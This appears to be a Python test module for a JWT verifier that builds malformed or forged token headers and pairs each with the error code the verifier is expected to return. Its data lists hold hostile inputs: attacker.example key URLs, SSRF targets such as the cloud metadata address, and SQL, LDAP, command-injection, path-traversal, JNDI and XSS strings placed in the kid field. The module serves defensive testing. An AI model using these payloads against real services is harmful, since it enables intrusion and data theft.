"""Wrong tokens about header parameters: rows C01 to C11 of the attack list. Most carry a good signature."""

from base64 import b64encode
from collections.abc import Iterator
from hashlib import sha1, sha256
from typing import Final

from jotgate.errors import Code
from jotgate.jose.algorithms import Hmac
from jotgate.jose.encoding import b64url_encode
from jotgate.jose.keys import SigningKey, generate, hmac_key, public_jwk, thumbprint
from jotgate.testing.forge import ABSENT, Forge, to_json
from jotgate.testing.public_forms import bare_forms

_URLS: Final = (
    "https://attacker.example/jwks.json",
    "http://127.0.0.1/jwks.json",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]/jwks.json",
    "http://2130706433/jwks.json",
    "https://0x7f.1/jwks.json",
    "https://good.example@attacker.example/jwks.json",
    "http://0177.0.0.1/jwks.json",
    "http://127.1/jwks.json",
    "http://[::ffff:127.0.0.1]/jwks.json",
    "http://[64:ff9b::7f00:1]/jwks.json",
    "http://[2002:7f00:1::]/jwks.json",
    "http://localhost/jwks.json",
    "http://127.0.0.1.nip.io/jwks.json",
    "https://good.example#@attacker.example/jwks.json",
    "https://good.example/login?next=https://attacker.example/jwks.json",
    "https://good.example/../../etc/passwd",
)
_NO_URLS: Final[tuple[object, ...]] = (
    *("file:///etc/passwd", "gopher://127.0.0.1/x", "data:application/json,{}", "ldap://127.0.0.1/x", "ftp://a/b"),
    *("//attacker.example/jwks.json", "/jwks.json", "keys", "javascript:1", "", " https://a.example", "https:\\\\a"),
    *(None, 1, ["https://attacker.example/"], {"url": "https://attacker.example/"}, True),
)
_UNKNOWN_KIDS: Final = (
    "../../../../dev/null",
    "/dev/null",
    "' UNION SELECT 'secret' -- ",
    "*)(uid=*))(|(uid=*",
    '{"$ne": null}',
    "| cat /etc/passwd",
    "__proto__",
    "constructor",
    "next",
    "0",
    " ",
    *(
        "..\\\\..\\\\windows\\\\win.ini",
        "/proc/self/environ",
        "keys/active",
        "file:///etc/passwd",
        "..%2f..%2fdev%2fnull",
        "%00",
    ),
    *("https://attacker.example/jwks.json", "http://169.254.169.254/", "${jndi:ldap://attacker.example/a}", "{{7*7}}"),
    *(
        "1 OR 1=1",
        "'; DROP TABLE keys; --",
        "' OR '1'='1",
        "%",
        "_",
        "*",
        "?",
        "[a-z]*",
        "$(id)",
        "`id`",
        "; id",
        "&& id",
    ),
    *(
        "null",
        "undefined",
        "None",
        "true",
        "-1",
        "toString",
        "hasOwnProperty",
        "valueOf",
        "active",
        "pending",
        "default",
    ),
    *("k" * 256, "<script>alert(1)</script>", '"}, "alg": "none', "a,b", "a;b", "a=b", "~", "."),
)
_KIDS_OF_NO_FORM: Final[tuple[object, ...]] = (
    *("", "a\r\nb", "a\0b", "\u0430", "\u202e", "k" * 257, 1, 1.5, True, None, ["k"], {"k": "v"}, "k" * 2_500),
    *(
        "\t",
        "\x1b[2J",
        "\x7f",
        "\u00a0",
        "\ufeff",
        "\u200b",
        "\uff0e\uff0e\uff0f",
        0,
        -1,
        [],
        {},
        [None],
        {"$ne": None},
    ),
)
_NO_FORMS: Final[dict[str, object]] = {"cty": None, "jwk": 0, "x5c": "text", "x5t": None}
_EMPTY_CHAIN: Final[list[str]] = []
_CRITS: Final[tuple[object, ...]] = (
    [],
    ["exp"],
    ["alg"],
    ["x", "x"],
    ["absent"],
    "x",
    None,
    {},
    [1],
    [["x"]],
    ["kid"],
    ["b64"],
    *(["typ"], [""], ["x", "alg"], ["x"], ["x", "exp"], [None], [True], [{}], True, 0, "", "exp", ["X"], ["crit"]),
    *(["jwk"], ["zip"], ["\u0430lg"], [["alg"], "x"], {"x": True}, ["x"] * 200),
)
_B64S: Final[tuple[object, ...]] = (False, True, "false", None, 0, "true", [], {})
_ZIPS: Final[tuple[object, ...]] = ("GZ", "def", "", None, 1, True, ["DEF"], {}, "DEF ")
_OTHER_TYPES: Final = (
    *("JWT", "jwt", "id", "dpop+jwt", "logout+jwt", "secevent+jwt", "oauth-id-jag+jwt", "txntoken+jwt", "rt+jwt"),
    *("token-introspection+jwt", "at+jwt;v=1", "at+jwt ", " at+jwt", "text/at+jwt", "application/application/at+jwt"),
    *(
        "at jwt",
        "at+JWTs",
        "",
        "application/",
        "\u0430t+jwt",
        "JWS",
        "JOSE",
        "JOSE+JSON",
        "application/jwt",
        "at",
        "+jwt",
    ),
    *("kb+jwt", "vc+jwt", "dc+sd-jwt", "passport", "entity-statement+jwt", "client-authentication+jwt", "ID", "Bearer"),
    *(
        "oauth-authz-req+jwt",
        "refresh+jwt",
        "mfa+jwt",
        "reset+jwt",
        "wpt+jwt",
        "at+jwt,JWT",
        "at+jwt\n",
        "at+jwt\0",
        "*/*",
    ),
    *("application/at+jwt;charset=utf-8", "Application/Application/at+jwt", "at+jwt/", "\uff41t+jwt", "none"),
)


def rows(forge: Forge) -> Iterator[tuple[str, bytes, Code]]:
    """Each wrong token as (name, token, code)."""
    yield from _brought_keys(forge)
    for number, kid in enumerate(_UNKNOWN_KIDS):
        yield f"C04_unknown_{number}", forge.with_header(kid=kid), Code.KEY_UNKNOWN
    yield "C04_other_case", forge.with_header(kid=forge.key.kid.swapcase()), Code.KEY_UNKNOWN
    yield "C04_prefix", forge.with_header(kid=forge.key.kid[:-1]), Code.KEY_UNKNOWN
    yield "C04_nul_behind", forge.with_header(kid=forge.key.kid + "\0"), Code.TOKEN_MALFORMED
    for number, value in enumerate(_KIDS_OF_NO_FORM):
        yield f"C04_form_{number}", forge.with_header(kid=value), Code.TOKEN_MALFORMED
    yield "C04_wildcard", forge.with_header(kid=forge.key.kid[:-1] + "%"), Code.KEY_UNKNOWN
    for name, kid in (("space", forge.key.kid + " "), ("padding", forge.key.kid + "="), ("list", f"{forge.key.kid},x")):
        yield f"C04_behind_{name}", forge.with_header(kid=kid), Code.KEY_UNKNOWN
    for member in ("jku", "x5u"):
        for number, value in enumerate(_NO_URLS):
            yield f"C02_{member}_no_url_{number}", forge.with_header(**{member: value}), Code.TOKEN_MALFORMED
    for member, form in _NO_FORMS.items():
        yield f"C03_form_{member}", forge.with_header(**{member: form}), Code.TOKEN_MALFORMED
    yield "C03_form_x5c_empty", forge.with_header(x5c=_EMPTY_CHAIN), Code.TOKEN_MALFORMED
    for number, crit in enumerate(_CRITS):
        yield f"C06_crit_{number}", forge.with_header(crit=crit, x=1, exp=1), Code.TOKEN_MALFORMED
    for number, b64 in enumerate(_B64S):
        yield f"C07_b64_{number}", forge.with_header(b64=b64), Code.TOKEN_MALFORMED
        yield f"C07_b64_{number}_crit", forge.with_header(b64=b64, crit=["b64"]), Code.TOKEN_MALFORMED
    header, _, signature = forge.with_claims().split(b".")
    yield "C07_detached", header + b".." + signature, Code.TOKEN_MALFORMED
    yield "C08_zip", forge.with_header(zip="DEF"), Code.TOKEN_ENCRYPTED
    for number, zip_name in enumerate(_ZIPS):
        yield f"C08_zip_{number}", forge.with_header(zip=zip_name), Code.TOKEN_ENCRYPTED
    for number, p2c in enumerate((2**31, 2**53, 0, -1, "4096", 1.5)):
        pbes2: dict[str, object] = {"alg": "PBES2-HS256+A128KW", "p2s": "c2FsdA", "p2c": p2c}
        yield f"C09_signed_{number}", forge.with_header(**pbes2), Code.ALGORITHM_REFUSED
        yield f"C09_signed_with_enc_{number}", forge.with_header(**pbes2, enc="A128GCM"), Code.TOKEN_ENCRYPTED
    for number, typ in enumerate(_OTHER_TYPES):
        yield f"C10_typ_{number}", forge.with_header(typ=typ), Code.CLAIM_REFUSED
    yield "C10_typ_absent", forge.with_header(typ=ABSENT), Code.CLAIM_REFUSED
    for number, value in enumerate((None, 1, ["at+jwt"], {}, True)):
        yield f"C10_typ_form_{number}", forge.with_header(typ=value), Code.TOKEN_MALFORMED
    yield "C11_nested", forge.seal(forge.header(cty="JWT"), forge.with_claims()), Code.TOKEN_MALFORMED
    for number, cty in enumerate(("application/jwt", "jwt", "Jwt", "APPLICATION/JWT")):
        yield f"C11_nested_in_name_{number}", forge.with_header(cty=cty), Code.TOKEN_MALFORMED
    yield "C11_enc", forge.with_header(enc="A256GCM"), Code.TOKEN_ENCRYPTED
    for claim in ("iss", "sub", "aud"):
        yield f"JWT10_{claim}", forge.with_header(**{claim: "https://other.example"}), Code.CLAIM_REFUSED
    long_header = forge.seal(forge.header(x="A" * 4_096), forge.claims())
    yield "D10_header", long_header, Code.TOKEN_MALFORMED


def _brought_keys(forge: Forge) -> Iterator[tuple[str, bytes, Code]]:
    """Tokens that bring or name the key which made them: it is a stranger's."""
    key, jwk = _stranger(forge.key)
    stranger = Forge(key, forge.issuer, forge.audience, forge.now_s)
    brought: list[dict[str, object]] = [
        {"jwk": jwk},
        {"jwk": {**jwk, "kid": forge.key.kid}},
        {"jwk": {**jwk, "kid": forge.key.kid, "use": "sig", "key_ops": ["verify"]}, "jku": "https://good.example/"},
        {"jwks": {"keys": [jwk]}},
        {"key": jwk},
        *_chains(key),
    ]
    for url in _URLS:
        brought += [{"jku": url}, {"x5u": url}]
    for number, members in enumerate(brought):
        under_our_name = stranger.with_header(kid=forge.key.kid, **members)
        row = "C02" if "jku" in members or "x5u" in members else "C03" if "x5c" in members else "C01"
        yield f"{row}_brought_{number}", stranger.with_header(kid=thumbprint(jwk), **members), Code.KEY_UNKNOWN
        yield f"{row}_brought_{number}_our_kid", under_our_name, Code.SIGNATURE_INVALID


def _chains(key: SigningKey) -> list[dict[str, object]]:
    """Certificates that the stranger signed for itself, with thumbprints that fit and some that do not."""
    raw = b"a certificate" if isinstance(key.algorithm.scheme, Hmac) else bare_forms(key)["certificate_der"]
    chain = b64encode(raw).decode()
    right, other = b64url_encode(sha1(raw).digest()).decode(), b64url_encode(bytes(20)).decode()  # noqa: S324 - RFC 7515 s4.1.7
    return [
        {"x5c": [chain]},
        {"x5c": [chain, chain], "x5t": right},
        {"x5c": [chain], "x5t": other},
        {"x5c": [chain], "x5t#S256": b64url_encode(sha256(raw).digest()).decode()},
        {"x5c": ["AAAA"], "x5t": right},
        {"x5c": [chain], "x5u": "https://attacker.example/chain.pem"},
    ]


def _stranger(key: SigningKey) -> tuple[SigningKey, dict[str, str]]:
    """Another key of the same algorithm, and the JWK that a header would bring."""
    alg = key.algorithm.name
    if not isinstance(key.algorithm.scheme, Hmac):
        other = generate(alg)
        return other, public_jwk(other.verification_key)
    secret = bytes(range(key.algorithm.key_bits_min // 8))
    return hmac_key(secret, alg, "brought"), {"kty": "oct", "alg": alg, "k": b64url_encode(secret).decode()}


def header_bytes(forge: Forge) -> dict[str, bytes]:
    """Headers that are not strict JSON objects, by name."""
    good = to_json(forge.header())
    return {
        "twice": good[:-1] + b',"alg":"none"}',
        "twice_equal": good[:-1] + b',"typ":"at+jwt"}',
        "twice_escaped": good[:-1] + b',"al\\u0067":"none"}',
        "empty": b"",
        "array": b"[" + good + b"]",
        "text": b'"none"',
        "two": good + good,
        "comment": good + b"//",
        "bom": b"\xef\xbb\xbf" + good,
        "utf16": good.decode().encode("utf-16"),
        "not_utf8": good[:-1] + b',"x":"\xff"}',
        "lone_surrogate": good[:-1] + b',"x":"\\ud800"}',
        "comma": good[:-1] + b",}",
    }
